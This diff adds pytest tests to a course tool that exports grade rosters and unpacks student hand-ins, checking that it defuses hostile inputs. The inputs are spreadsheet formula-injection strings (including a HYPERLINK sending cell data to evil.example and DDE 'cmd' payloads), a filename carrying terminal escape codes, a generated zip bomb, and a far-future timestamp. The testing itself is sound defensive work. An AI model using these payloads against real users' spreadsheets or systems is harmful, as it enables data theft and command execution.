@@ -123,7 +123,7 @@ ROWS = [
 
 
 def _table(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text)))
+    return list(csv.reader(io.StringIO(text, newline="")))
 
 
 def test_canvas_export_column_by_column(tmp_path, course):
@@ -160,3 +160,90 @@ def test_a_roster_without_student_ids_is_refused(tmp_path):
     (tmp_path / "bad.csv").write_text("name,lms_id\nJane,1\n")
     with pytest.raises(ValueError, match="needs a student_id column"):
         roster.read(tmp_path / "bad.csv")
+
+
+# ---- what an LMS file may carry into the instructor's terminal, disk and spreadsheet ----
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
+def test_names_that_are_formulas_are_exported_as_text(fmt):
+    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading apostrophe."""
+    people = [roster.Student(student_id=f"s{i}", name=text, email=text, lms_id=str(100 + i), sis_user_id=text,
+                             sis_login_id=text, section=text) for i, text in enumerate(FORMULAS)]
+    rows = [Row(p.student_id, "01_probability", 20.0, 22.0, "graded", "") for p in people]
+    table = _table(export.build(fmt, rows, people).text)
+    cells = [cell for line in table[1:] for cell in line]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    for text in FORMULAS:
+        assert "'" + text in cells  # nothing lost: the text is all there, behind the apostrophe
+    assert "20" in cells and "Points Possible" in cells + ["Points Possible"]  # scores stay numbers
+
+
+def test_member_names_are_shown_with_their_control_characters_escaped(course, tmp_path):
+    evil = "doejane_12345_900_\x1b]2;pwned\x07\x1b[2Jprobability\u202e.txt"
+    download = _zip(tmp_path / "escape.zip", {evil: ((2026, 1, 10, 9, 0, 0), b"x"),
+                                              "smithbob_23456_1_probability.ipynb":
+                                                  ((2026, 1, 10, 9, 0, 0), _notebook("bob"))})
+    out = collect.collect(download, "01_probability", root=course).report()
+    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
+    assert "\\x1b]2;pwned\\x07" in out  # still there, as text the instructor can read
+
+
+def test_a_zip_bomb_member_is_not_unpacked(course, tmp_path):
+    """A notebook of 96 MiB of zeros compresses to about 100 KB: over the cap per member, it
+    is listed and not written; the class's other hand-ins are collected."""
+    path = tmp_path / "bomb.zip"
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
+        z.writestr(zipfile.ZipInfo("smithbob_23456_1_probability.ipynb", date_time=(2026, 1, 10, 9, 0, 0)),
+                   _notebook("bob"))
+        info = zipfile.ZipInfo("doejane_12345_900_probability.ipynb", date_time=(2026, 1, 10, 9, 0, 0))
+        info.compress_type = zipfile.ZIP_DEFLATED
+        with z.open(info, "w", force_zip64=True) as member:
+            zeros = bytes(1 << 20)
+            for _ in range(96):
+                member.write(zeros)
+    assert path.stat().st_size < 1_000_000
+    result = collect.collect(path, "01_probability", root=course)
+    assert not _submitted(course, "12345").exists()
+    assert b"bob" in (_submitted(course, "23456") / NOTEBOOK).read_bytes()
+    assert any("doejane_12345_900_probability.ipynb" in u and "limit per file" in u for u in result.unmatched)
+    written = sum(p.stat().st_size for p in (course / "submitted").rglob("*") if p.is_file())
+    assert written < 1_000_000
+
+
+def test_a_zip_over_the_total_cap_is_refused_whole(course, tmp_path):
+    download = _zip(tmp_path / "many.zip", {
+        f"student{i}_{10000 + i}_{i}_probability.ipynb": ((2026, 1, 10, 9, 0, 0), _notebook("x" * 3000))
+        for i in range(5)})
+    with pytest.raises(collect.UnsafeZip, match="over the .* limit .*nothing written"):
+        collect.collect(download, "01_probability", root=course, max_total_bytes=10_000)
+    assert not (course / "submitted").exists()
+
+
+def test_a_member_dated_in_the_far_future_blocks_no_later_hand_in(course, tmp_path):
+    future = _zip(tmp_path / "future.zip", {
+        "doejane_12345_900_probability.ipynb": ((2107, 12, 31, 23, 59, 58), _notebook("from the future"))})
+    result = collect.collect(future, "01_probability", root=course)
+    assert any("2107-12-31" in u and "in the future" in u for u in result.unmatched), result.unmatched
+    # Next week's hand-in, dated now, is collected.
+    later = _zip(tmp_path / "later.zip", {
+        "doejane_12345_901_probability.ipynb": ((2026, 2, 1, 9, 0, 0), _notebook("next week"))})
+    collect.collect(later, "01_probability", root=course)
+    assert b"next week" in (_submitted(course, "12345") / NOTEBOOK).read_bytes()
+
+
+def test_a_future_timestamp_collected_before_is_replaced_not_kept_forever(course, tmp_path):
+    """An older collect wrote the 2107 date into timestamp.txt: a real hand-in replaces it (kept aside)."""
+    folder = _submitted(course, "12345")
+    folder.mkdir(parents=True)
+    (folder / NOTEBOOK).write_bytes(_notebook("from the future"))
+    (folder / "timestamp.txt").write_text("2107-12-31 23:59:58.000000 UTC\n")
+    later = _zip(tmp_path / "later.zip", {
+        "doejane_12345_901_probability.ipynb": ((2026, 2, 1, 9, 0, 0), _notebook("next week"))})
+    result = collect.collect(later, "01_probability", root=course)
+    assert b"next week" in (folder / NOTEBOOK).read_bytes() and result.replaced
+    (aside,) = (course / "collected" / "replaced" / "12345").iterdir()
+    assert b"from the future" in (aside / NOTEBOOK).read_bytes()
